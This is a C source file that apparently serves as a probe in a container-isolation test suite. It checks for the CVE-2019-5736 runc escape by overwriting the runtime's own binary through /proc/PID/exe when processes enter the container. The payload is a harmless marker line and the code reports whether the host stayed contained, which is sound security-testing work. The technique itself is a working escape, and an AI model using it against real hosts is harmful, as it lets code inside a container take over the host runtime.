/*
 * binary-overwrite NAME TARGET COUNT: changes the runtime's own program on the host (CVE-2019-5736).
 *
 * /proc/PID/exe of a process that enters is the runtime's file, wherever that lies. It cannot be written while it is
 * executed, but it can be kept open until it is not. docs/drofune/binary-overwrite.md.
 *
 * TARGET becomes a script whose interpreter is /proc/self/exe: whoever executes it in the container executes the runtime
 * once more, with no more capabilities than the container has. Only a file called NAME is written to, or one in memory.
 *
 * Says CONTAINED when COUNT processes have entered and none of their programs could be written.
 */
#include "probe.h"
#include <time.h>

enum { PATIENCE = 5 };

static void write_script(const char *target)
{
    static const char script[] = "#!/proc/self/exe\n";
    int fd = open(target, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (fd < 0 || fchmod(fd, 0755) < 0 || write(fd, script, sizeof script - 1) < 0 || close(fd) < 0)
        broken(target);
}

/*
 * Whether the link is to the file that may be written: no other is touched. A runtime's copy in memory counts as that file,
 * and so does a mount of the file alone that is in no directory any more ("/"): runc makes the one or the other.
 */
static int is_wanted(const char *link, const char *name)
{
    char text[4096];
    ssize_t length = readlink(link, text, sizeof text - 1);
    if (length < 0)
        return 0;
    text[length] = 0;
    const char *last = strrchr(text, '/');
    return strncmp(text, "/memfd:", 7) == 0 || strcmp(text, "/") == 0 || (last && strcmp(last + 1, name) == 0);
}

/* A descriptor for the process's program, which outlives the process; -1 when it ended first. */
static int open_program(int pid, const char *name)
{
    char link[64];
    snprintf(link, sizeof link, "/proc/%d/exe", pid);
    while (parent_of(pid) == 0) {
        int fd = open(link, O_PATH | O_CLOEXEC);
        if (fd >= 0 && is_wanted(link, name))
            return fd;
        if (fd >= 0)
            close(fd);
    }
    return -1;
}

/* Opens it again, this time for writing, as soon as nobody executes it any more. */
static int overwrite(int program)
{
    static const char text[] = "overwritten from inside\n";
    char link[64];
    int fd;
    snprintf(link, sizeof link, "/proc/self/fd/%d", program);
    for (time_t end = time(NULL) + PATIENCE; (fd = open(link, O_WRONLY | O_APPEND | O_CLOEXEC)) < 0;)
        if (errno != ETXTBSY || time(NULL) > end)
            return 0;
    int written = write(fd, text, sizeof text - 1) == (ssize_t)(sizeof text - 1);
    int error = errno;
    close(fd);
    errno = error;
    return written;
}

int main(int argc, char **argv)
{
    int count = argc == 4 ? atoi(argv[3]) : 0;
    if (count <= 0) {
        fprintf(stderr, "usage: binary-overwrite NAME TARGET COUNT\n");
        return BROKEN;
    }
    write_script(argv[2]);
    say_ready();
    int escaped = 0;
    while (count-- > 0 && !escaped) {
        int pid = next_newcomer();
        int program = open_program(pid, argv[1]);
        escaped = program >= 0 && overwrite(program);
        fprintf(stderr, "process %d: %s\n", pid, program < 0 ? "its program is out of reach" : escaped ? "its program is overwritten" : strerror(errno));
        if (program >= 0)
            close(program);
    }
    return verdict(escaped);
}
